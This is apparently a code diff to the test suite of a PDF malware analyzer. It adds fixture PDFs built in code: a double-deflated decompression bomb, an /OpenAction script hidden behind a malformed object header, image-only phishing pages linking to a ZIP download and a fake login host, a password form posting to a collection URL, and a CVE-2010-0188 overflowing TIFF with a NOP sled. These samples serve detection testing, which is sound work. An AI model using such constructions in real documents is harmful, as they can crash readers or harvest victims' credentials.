@@ -1,3 +1,4 @@
+import { deflateSync } from "node:zlib";
 // The rule registry's consistency test and every rule's behaviour, in the manner of ESLint's
 // checkRuleFiles and file-type's "supported set" test: each rule in RULES must have a fixture PDF,
 // built here in code and named by the behaviour it shows, on which analyzeFast reports that rule.
@@ -5,6 +6,7 @@
 import { readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import { EXPLOIT_RULE_FIXTURES } from "../embedded/testing/exploit-fixtures";
+import { DOT_RANGE_OVERFLOW, PLAIN_TIFF_TAGS, tiff } from "../facts/formats/testing/format-fixtures";
 import { analyzeFast } from "../analyze";
 import { MITIGATIONS } from "../mitigations";
 import { FastResult, SEVERITIES } from "../report";
@@ -41,6 +43,16 @@ const openActionScript = (js: string) => documentWith({ catalog: `/OpenAction <<
 
 /** A small link annotation (a line of text, not an overlay) with action `action`. */
 const link = (action: string, rect = "72 700 200 714") => `<< /Type /Annot /Subtype /Link /Rect [${rect}] /Border [0 0 0] /A ${action} >>`;
+
+/** A one-page document that is one picture (an image XObject over the page) with one link over part of it. */
+function pictureWithLink(url: string, pages = 1) {
+  const b = new PdfBuilder();
+  const img = b.addStream("/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8", "\x80");
+  const content = b.addFlateStream("", "q 612 0 0 792 0 0 cm /Im0 Do Q");
+  const annot = b.add(link(`<< /S /URI /URI (${url}) >>`, "100 300 500 500"));
+  b.addCatalog("", pages, `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`);
+  return b.build();
+}
 
 /** A document with one attached file in the /EmbeddedFiles name tree. */
 function attachment(name: string, data: Uint8Array | string, subtype = "") {
@@ -116,6 +128,9 @@ interface Fixture {
   build: () => Uint8Array;
 }
 
+/** a TIFF whose DotRange holds 204 values after a NOP sled: the CVE-2010-0188 construction */
+const EXPLOIT_TIFF_BASE64 = Buffer.from(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })).toString("base64");
+
 const FIXTURES: Record<string, Fixture> = {
   "javascript-present": {
     name: "a form field with a calculation script",
@@ -172,6 +187,20 @@ const FIXTURES: Record<string, Fixture> = {
   "embedded-active-content": { name: "an attached HTML page with a script", build: () => attachment("view.html", "<html><body><script>location.href='https://example.com/'</script></body></html>") },
   "embedded-flash": { name: "an attached SWF movie", build: () => attachment("movie.swf", concat([bytes("FWS\x0a"), Uint8Array.of(0x40, 0, 0, 0), new Uint8Array(32)])) },
   "name-obfuscation": { name: "/JavaScript spelled /J#61vaScript", build: () => documentWith({ catalog: "/OpenAction << /S /J#61vaScript /JS (app.alert(1);) >>" }).build() },
+  "decompression-bomb": {
+    name: "a stream of 40 MB of zeros deflated twice (a few hundred bytes in the file)",
+    build: () => documentWith({ setup: (b) => (b.addStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024)))), {}) }).build(),
+  },
+  "hidden-active-keyword": {
+    name: "an /OpenAction script whose object header is glued to junk",
+    build: () =>
+      documentWith({
+        setup(b) {
+          b.addJunk("\x00\x00junk"); // `junk5 0 obj`: the header is no token of its own
+          return { catalog: `/OpenAction ${b.add("<< /S /JavaScript /JS (app.alert(1);) >>")} 0 R` };
+        },
+      }).build(),
+  },
   "malformed-structure": { name: "a startxref pointing nowhere", build: () => documentWith().build({ brokenStartxref: true }) },
   "header-not-at-start": { name: "an image header before %PDF-", build: () => documentWith().build({ prefix: "GIF89a\x01\x00\x01\x00\x00\x00\x00;\n" }) },
   "data-after-eof": { name: "an archive appended after %%EOF", build: () => documentWith().build({ suffix: `PK\x03\x04${"\x14\x00\x00\x00\x08\x00payload.exe".repeat(8)}` }) },
@@ -221,11 +250,11 @@ const FIXTURES: Record<string, Fixture> = {
       xfaDocument('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><field name="Name"/></subform></template></xdp:xdp>'),
   },
   "xfa-tiff-exploit": {
-    name: "a base64 TIFF image in an XFA form (CVE-2010-0188)",
+    name: "a base64 TIFF in an XFA form whose DotRange overflows (CVE-2010-0188)",
     build: () =>
       xfaDocument(
         `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><field name="ImageField1"><ui><imageEdit/></ui></field></subform></template>` +
-          `<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfdf:contentType="image/tif" href=""><image contentType="image/tif">SUkqADggAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</image></ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`,
+          `<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfdf:contentType="image/tif" href=""><image contentType="image/tif">${EXPLOIT_TIFF_BASE64}</image></ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`,
       ),
   },
   "fontmatrix-injection": { name: "a string in a /FontMatrix (CVE-2024-4367)", build: () => fontDocument("/Subtype /Type1 /FontMatrix [1 0 0 1 0 (x)]") },
@@ -270,6 +299,25 @@ const FIXTURES: Record<string, Fixture> = {
     name: "a link to a host full of account-action words",
     build: () => documentWith({ annots: [link("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")] }).build(),
   },
+  "phishing-image-download-link": {
+    name: "a picture page whose one link fetches a ZIP from a file-sharing host",
+    build: () => pictureWithLink("https://www.dropbox.com/s/k3x9/Invoice_0423.zip?dl=1"),
+  },
+  "phishing-image-login-link": {
+    name: "a picture page whose one link leads to a page on a free web host",
+    build: () => pictureWithLink("https://secure-doc-view.000webhostapp.com/adobe/index.php"),
+  },
+  "lure-login-form": {
+    name: "a password field submitted to a web server",
+    build: () =>
+      documentWith({
+        setup(b) {
+          const password = b.add("<< /FT /Tx /T (password) /Ff 8192 /Rect [72 560 300 580] /Subtype /Widget >>");
+          const submit = b.add("<< /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>");
+          return { catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>` };
+        },
+      }).build(),
+  },
   "phishing-link-overlay": {
     name: "a link covering the whole page",
     build: () => documentWith({ annots: [link("<< /S /URI /URI (https://docs.example.com/view?id=42) >>", "0 0 612 792")] }).build(),
@@ -294,6 +342,7 @@ const ADVANCED_RULE_TESTS: Record<string, string> = {
   "javascript-dynamic-code": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
   "javascript-network-or-launch": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
   "javascript-emulation-limit": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
+  "javascript-obfuscated-emulation-failed": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
   "embedded-nested-pdf-malicious": "lib/analyzer/embedded/analyze-embedded-files.test.ts",
   "embedded-nested-pdf-suspicious": "lib/analyzer/embedded/analyze-embedded-files.test.ts",
   "embedded-archive-with-executable": "lib/analyzer/embedded/analyze-embedded-files.test.ts",
@@ -305,7 +354,7 @@ const ADVANCED_RULE_TESTS: Record<string, string> = {
   "lure-qr-code-suspicious-url": "lib/analyzer/rules/lure-rules.test.ts",
   "lure-fake-protected-document": "lib/analyzer/rules/lure-rules.test.ts",
   "lure-link-dominant-page": "lib/analyzer/rules/lure-rules.test.ts",
-  "lure-login-form": "lib/analyzer/rules/lure-rules.test.ts",
+  "lure-image-download-link": "lib/analyzer/rules/lure-rules.test.ts",
   "parser-differential": "lib/analyzer/rules/lure-rules.test.ts",
 };
 
@@ -375,6 +424,12 @@ describe("every fast rule fires on its fixture", () => {
     for (const f of r.findings) expect(f.description, f.ruleId).not.toMatch(LIVE_LINK);
   });
 
+  it("analyses a file without any %PDF- header and reports the missing header (readers open it)", () => {
+    const r = analyzeFast(documentWith({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1);) >>" }).build({ header: null }), { fileName: "headerless.pdf" });
+    expect(r.structure.header_offset).toBe(-1);
+    expect(r.findings.map((f) => f.ruleId)).toEqual(expect.arrayContaining(["header-not-at-start", "javascript-auto-run"]));
+  });
+
   it("fires the exploit rules of these fixtures with their CVE", () => {
     const cves = (id: string) => analyzeFast(FIXTURES[id].build(), { fileName: "x.pdf" }).findings.find((f) => f.ruleId === id)?.cve;
     expect(cves("javascript-exploit-api")).toEqual(expect.arrayContaining(["CVE-2007-5659"]));
@@ -383,7 +438,7 @@ describe("every fast rule fires on its fixture", () => {
   });
 
   it("finds an XFA TIFF whose base64 is split one character a line (byte patterns miss it)", () => {
-    const split = "SUkqADggAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".split("").join(" \n");
+    const split = EXPLOIT_TIFF_BASE64.split("").join(" \n");
     const pdf = xfaDocument(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfa:contentType="image/tif" href=""> ${split}</ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`);
     expect(analyzeFast(pdf, { fileName: "x.pdf" }).findings.map((f) => f.ruleId)).toContain("xfa-tiff-exploit");
   });
